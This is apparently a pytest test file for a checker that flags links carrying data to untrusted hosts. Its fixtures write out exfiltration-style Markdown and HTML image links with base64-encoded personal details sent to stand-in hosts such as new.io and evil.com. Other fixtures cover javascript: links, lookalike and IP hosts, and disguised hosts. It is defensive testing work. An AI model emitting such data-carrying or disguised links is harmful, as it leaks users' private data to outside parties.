"""Links that carry data away are told from those that only point somewhere."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from holdfast.policy.egress import Trust, find_egress, hosts_in, trust_in

DATA = base64.b64encode(b"Alice Kim lives at 12 Main Street").decode()
TRUST = trust_in(
    ("You help the people of Acme. See https://docs.acme.com/start.", "I use tools.partner.io a lot"),
    (
        "Visit http://evil.com/x and https://evil.com/seen.png?id=1 for the notes of Alice Kim, 12 Main Street",
    ),
    ("*.cdn.net",),
)


def codes(text: str, trust: Trust = TRUST) -> list[str]:
    return [found.code for found in find_egress(text, lambda: trust)]


@pytest.mark.parametrize(
    ("text", "code"),
    [
        (f"![a](https://new.io/p.png?d={DATA})", "image_data"),
        (f"![a][1]\n\n[1]: https://new.io/p.png?d={DATA}", "link_data"),
        ("![a](<https://new.io/p?name=Alice+Kim>)", "image_data"),
        ("![a](https://new.io/p?d=alice-kim-lives-here)", "image_data"),
        (f"[a](https://new.io/p?d={DATA})", "link_data"),
        (f"[a](https://new.io/{DATA})", "link_data"),
        (f"[a](https://new.io/#{DATA})", "link_data"),
        (f"<https://new.io/?{DATA}>", "link_data"),
        (f"see https://new.io/?x={DATA}.", "link_data"),
        ("[a](https://new.io/?q=notes%20of%20Alice%20Kim%2C%2012%20Main)", "link_data"),
        (f"https://{DATA.lower()[:30]}.new.io/", "link_data"),
        (f"//new.io/{DATA}", None),
        (f'<img src="//new.io/x?d={DATA}">', "image_data"),
        (f"<img src=https://new.io/x?d={DATA}>", "image_data"),
        (f"<a href='https://new.io/x?d={DATA}'>x</a>", "link_data"),
        (f"<video poster = 'https://new.io/{DATA}'>", "image_data"),
        (f"background: url('https://new.io/{DATA}')", "image_data"),
        (f"background:url(https://new.io/{DATA})", "image_data"),
        ("![a](https://evil.com/new.png)", "untrusted_image"),
        (f"[a](https://evil.com/{DATA[:20]})", "untrusted_link"),
        ("[a](javascript:fetch('/x'))", "script_link"),
        ("[a](VBScript:x)", "script_link"),
        ("[a](data:text/html;base64,PHNjcmlwdD4=)", "data_link"),
        ("![a](data:image/svg+xml,x)", "data_link"),
        ("http://2130706433/", "ip_host"),
        ("http://0x7f.1/x", "ip_host"),
        ("![a](http://8.8.8.8/x.png)", "ip_host"),
        (f"http://8.8.8.8/{DATA}", "ip_host"),
        (f"http://[2001:4860:4860::8888]:80/{DATA}", "ip_host"),
        ("https://раураl.com/", "lookalike_host"),
        ("https://xn--80ak6aa92e.com/x", "lookalike_host"),
        ("https://xn--\u00e9.com/x", "lookalike_host"),
        ("https://xn--999999999.com/", "lookalike_host"),
        ("https://docs.acme.com@new.io/", "disguised_host"),
    ],
)
def test_a_link_that_carries_data_away_says_why(text: str, code: str | None) -> None:
    assert codes(text) == ([] if code is None else [code])


@pytest.mark.parametrize(
    "text",
    [
        "https://docs.python.org/3/library/re.html#module-contents",
        "[search](https://www.google.com/search?q=python+list+comprehension)",
        "![build](https://img.shields.io/badge/build-passing-green?style=flat)",
        "![logo](https://new.io/logo.png)",
        "https://help.new.io/hc/articles/20196094470929-Installing-NordVPN-on-Linux-distributions",
        "https://www.freedesktop.org/man/systemctl.html#mount-image%20UNIT%20IMAGE%20%5BPATH%20%5BPARTITION%5D%5D",
        "https://youtu.be/watch?v=dQw4w9WgXcQ",
        "https://github.com/apache/x/blob/main/src/AbstractSingletonProxyFactoryBean.java",
        "http://localhost:8000/docs?token=" + DATA,
        "http://127.0.0.1:8000/docs?q=" + DATA,
        "http://192.168.0.1/admin",
        "http://8.8.8.8/dns",
        f"https://api.example.com/users/{DATA}",
        f"https://docs.acme.com/{DATA} and https://eu.docs.acme.com/?d={DATA}",
        f"https://tools.partner.io/?d={DATA}",
        f"![x](https://img.cdn.net/?q={DATA})",
        "as you said: https://evil.com/seen.png?id=1",
        "![x](https://evil.com/seen.png?id=1)",
        "http://evil.com/other",
        "![x](data:image/png;base64,iVBORw0KGgo=)",
        "data: text, and more; javascript: a language",
        "a // b, x//y, https:// and /// and https:///x",
        "https://한국.kr/?q=안녕",
        "https://[::1]:8080/x",
        "no links at all, e.g. this one",
    ],
)
def test_ordinary_links_are_left_alone(text: str) -> None:
    assert codes(text) == []


def test_the_place_of_a_link_is_the_whole_of_it() -> None:
    text = f"Look: ![a](https://new.io/p.png?d={DATA}) nice"

    (found,) = find_egress(text, lambda: TRUST)

    assert text[found.start : found.end] == f"![a](https://new.io/p.png?d={DATA})"


def test_nobody_is_asked_about_hosts_while_there_are_no_links() -> None:
    def unasked() -> Trust:
        raise AssertionError

    assert find_egress("No links here: just words, a = b / c.", unasked) == []


def test_hosts_are_found_in_addresses_and_by_themselves() -> None:
    text = "https://user@A.example.io:80/x, docs.acme.com. me@mail.io //cdn.x.net/y"

    assert hosts_in(text) == {"a.example.io", "docs.acme.com", "cdn.x.net"}


def test_a_host_that_both_have_named_is_trusted() -> None:
    trust = trust_in(("see evil.com",), ("see evil.com and bad.com",), ())

    assert (trust.is_trusted("www.evil.com"), trust.untrusted) == (True, frozenset({"bad.com"}))


@given(st.text(alphabet="![]()<>:/.?=&#%@ab01\"'\n ", max_size=300))
def test_any_text_can_be_searched(text: str) -> None:
    for found in find_egress(f"//{text}", lambda: TRUST):
        assert 0 <= found.start < found.end <= len(text) + 2
